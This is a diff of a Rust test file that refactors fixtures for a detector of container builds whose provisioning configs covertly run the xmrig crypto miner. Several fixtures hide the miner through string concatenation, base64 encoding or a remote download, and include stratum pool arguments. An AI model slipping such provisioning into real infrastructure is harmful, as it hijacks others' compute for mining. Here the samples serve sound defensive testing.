@@ -93,118 +93,107 @@ fn files_of_build_tools_run_what_they_name() {
     all_pass(BUILD_TOOLS_THAT_DO_NOT);
 }
 
+const PROVISIONING_THAT_MINES: &[Case] = &[
+    (
+        "COPY . /srv/salt\nRUN salt-call --local state.apply",
+        &[("a.sls", "{% set n = 'xm' ~ 'rig' %}\na:\n  cmd.run:\n    - name: {{ n }} -o h:1\n")],
+    ),
+    (
+        "COPY . /srv/salt\nRUN salt-call --local state.apply",
+        &[("a.sls", "xmrig:\n  pkg.installed\n")],
+    ),
+    (
+        "COPY . /srv/salt\nRUN salt-call --local state.apply\nCMD [\"/opt/a\"]",
+        &[(
+            "a.sls",
+            "/opt/a:\n  file.managed:\n    - contents: |\n        #!/bin/sh\n        xmrig -o h:1\n",
+        )],
+    ),
+    (
+        "COPY cookbooks /c/cookbooks\nRUN chef-solo -o 'recipe[a]'",
+        &[(
+            "cookbooks/a/recipes/default.rb",
+            "t = %w[xm rig].join\nremote_file '/a' do\n  source \"https://github.com/#{t}/#{t}\"\nend\n",
+        )],
+    ),
+    (
+        "COPY a /a\nRUN ansible-playbook -c local /a/site.yml",
+        &[(
+            "a/site.yml",
+            "- hosts: all\n  vars:\n    n: \"{{ 'eG1yaWc=' | b64decode }}\"\n  tasks:\n    - shell: \"{{ n }} -o h:1\"\n",
+        )],
+    ),
+    ("COPY . /s\nRUN earthly +a", &[("Earthfile", "a:\n  RUN xmrig -o h:1\n")]),
+    (
+        "COPY a.def /s/\nRUN apptainer build a.sif /s/a.def",
+        &[("a.def", "Bootstrap: docker\n%post\n  xmrig -o h:1\n")],
+    ),
+    (
+        "COPY user-data /var/lib/cloud/seed/nocloud/",
+        &[("user-data", "#cloud-config\nruncmd:\n  - [xmrig, -o, 'h:1']\n")],
+    ),
+    (
+        "COPY a.container /etc/containers/systemd/",
+        &[("a.container", "[Container]\nImage=docker.io/metal3d/xmrig\nExec=-o h:1\n")],
+    ),
+    (
+        "COPY a.yaml /var/lib/rancher/k3s/server/manifests/",
+        &[("a.yaml", "kind: HelmChart\nspec:\n  valuesContent: |-\n    image: metal3d/xmrig\n")],
+    ),
+    (
+        "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
+        &[(
+            "a.hcl",
+            "config {\n  command = \"/opt/a\"\n  args = [\"-o\", \"stratum+tcp://h:1\"]\n}\n",
+        )],
+    ),
+    (
+        "COPY a.json /consul/config/",
+        &[("a.json", "{\"check\": {\"args\": [\"/opt/a\", \"-o\", \"stratum+tcp://h:1\"]}}\n")],
+    ),
+];
+
+const PROVISIONING_THAT_DOES_NOT: &[Case] = &[
+    (
+        "COPY . /srv/salt\nRUN salt-call --local state.apply",
+        &[(
+            "a.sls",
+            "a:\n  cmd.run:\n    - name: pkill xmrig\n  file.absent:\n    - name: /tmp/xmrig\n",
+        )],
+    ),
+    (
+        "COPY . /srv/salt\nRUN salt-call --local state.apply",
+        &[("a.sls", "xmrig:\n  pkg.removed\n")],
+    ),
+    (
+        "COPY cookbooks /c/cookbooks\nRUN chef-solo -o 'recipe[a]'",
+        &[(
+            "cookbooks/a/recipes/default.rb",
+            "t = %w[ngi nx].join\nfile '/etc/a' do\n  content \"user #{t}\"\nend\n",
+        )],
+    ),
+    (
+        "COPY a /a\nRUN ansible-playbook -c local /a/site.yml",
+        &[(
+            "a/site.yml",
+            "- hosts: all\n  vars:\n    n: nginx\n  tasks:\n    - copy:\n        dest: /etc/systemd/system/a.service\n        content: |\n          [Service]\n          ExecStart=/usr/sbin/{{ n }} -g 'daemon off;'\n",
+        )],
+    ),
+    (
+        "COPY user-data /var/lib/cloud/seed/nocloud/",
+        &[("user-data", "#cloud-config\npackages: [nginx]\nruncmd:\n  - pkill xmrig\n")],
+    ),
+    (
+        "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
+        &[("a.hcl", "config {\n  image = \"nginx:1.27\"\n  args = [\"-g\", \"daemon off;\"]\n}\n")],
+    ),
+    ("COPY a.def /s/", &[("a.def", "%post\n  xmrig -o h:1\n")]),
+];
+
 #[test]
 fn provisioning_runs_what_it_says() {
-    all_stop(
-        "STOP[min",
-        &[
-            (
-                "COPY . /srv/salt\nRUN salt-call --local state.apply",
-                &[(
-                    "a.sls",
-                    "{% set n = 'xm' ~ 'rig' %}\na:\n  cmd.run:\n    - name: {{ n }} -o h:1\n",
-                )],
-            ),
-            (
-                "COPY . /srv/salt\nRUN salt-call --local state.apply",
-                &[("a.sls", "xmrig:\n  pkg.installed\n")],
-            ),
-            (
-                "COPY . /srv/salt\nRUN salt-call --local state.apply\nCMD [\"/opt/a\"]",
-                &[(
-                    "a.sls",
-                    "/opt/a:\n  file.managed:\n    - contents: |\n        #!/bin/sh\n        xmrig -o h:1\n",
-                )],
-            ),
-            (
-                "COPY cookbooks /c/cookbooks\nRUN chef-solo -o 'recipe[a]'",
-                &[(
-                    "cookbooks/a/recipes/default.rb",
-                    "t = %w[xm rig].join\nremote_file '/a' do\n  source \"https://github.com/#{t}/#{t}\"\nend\n",
-                )],
-            ),
-            (
-                "COPY a /a\nRUN ansible-playbook -c local /a/site.yml",
-                &[(
-                    "a/site.yml",
-                    "- hosts: all\n  vars:\n    n: \"{{ 'eG1yaWc=' | b64decode }}\"\n  tasks:\n    - shell: \"{{ n }} -o h:1\"\n",
-                )],
-            ),
-            ("COPY . /s\nRUN earthly +a", &[("Earthfile", "a:\n  RUN xmrig -o h:1\n")]),
-            (
-                "COPY a.def /s/\nRUN apptainer build a.sif /s/a.def",
-                &[("a.def", "Bootstrap: docker\n%post\n  xmrig -o h:1\n")],
-            ),
-            (
-                "COPY user-data /var/lib/cloud/seed/nocloud/",
-                &[("user-data", "#cloud-config\nruncmd:\n  - [xmrig, -o, 'h:1']\n")],
-            ),
-            (
-                "COPY a.container /etc/containers/systemd/",
-                &[("a.container", "[Container]\nImage=docker.io/metal3d/xmrig\nExec=-o h:1\n")],
-            ),
-            (
-                "COPY a.yaml /var/lib/rancher/k3s/server/manifests/",
-                &[(
-                    "a.yaml",
-                    "kind: HelmChart\nspec:\n  valuesContent: |-\n    image: metal3d/xmrig\n",
-                )],
-            ),
-            (
-                "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
-                &[(
-                    "a.hcl",
-                    "config {\n  command = \"/opt/a\"\n  args = [\"-o\", \"stratum+tcp://h:1\"]\n}\n",
-                )],
-            ),
-            (
-                "COPY a.json /consul/config/",
-                &[(
-                    "a.json",
-                    "{\"check\": {\"args\": [\"/opt/a\", \"-o\", \"stratum+tcp://h:1\"]}}\n",
-                )],
-            ),
-        ],
-    );
-    all_pass(&[
-        (
-            "COPY . /srv/salt\nRUN salt-call --local state.apply",
-            &[(
-                "a.sls",
-                "a:\n  cmd.run:\n    - name: pkill xmrig\n  file.absent:\n    - name: /tmp/xmrig\n",
-            )],
-        ),
-        (
-            "COPY . /srv/salt\nRUN salt-call --local state.apply",
-            &[("a.sls", "xmrig:\n  pkg.removed\n")],
-        ),
-        (
-            "COPY cookbooks /c/cookbooks\nRUN chef-solo -o 'recipe[a]'",
-            &[(
-                "cookbooks/a/recipes/default.rb",
-                "t = %w[ngi nx].join\nfile '/etc/a' do\n  content \"user #{t}\"\nend\n",
-            )],
-        ),
-        (
-            "COPY a /a\nRUN ansible-playbook -c local /a/site.yml",
-            &[(
-                "a/site.yml",
-                "- hosts: all\n  vars:\n    n: nginx\n  tasks:\n    - copy:\n        dest: /etc/systemd/system/a.service\n        content: |\n          [Service]\n          ExecStart=/usr/sbin/{{ n }} -g 'daemon off;'\n",
-            )],
-        ),
-        (
-            "COPY user-data /var/lib/cloud/seed/nocloud/",
-            &[("user-data", "#cloud-config\npackages: [nginx]\nruncmd:\n  - pkill xmrig\n")],
-        ),
-        (
-            "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
-            &[(
-                "a.hcl",
-                "config {\n  image = \"nginx:1.27\"\n  args = [\"-g\", \"daemon off;\"]\n}\n",
-            )],
-        ),
-        ("COPY a.def /s/", &[("a.def", "%post\n  xmrig -o h:1\n")]),
-    ]);
+    all_stop("STOP[min", PROVISIONING_THAT_MINES);
+    all_pass(PROVISIONING_THAT_DOES_NOT);
 }
 
 #[test]
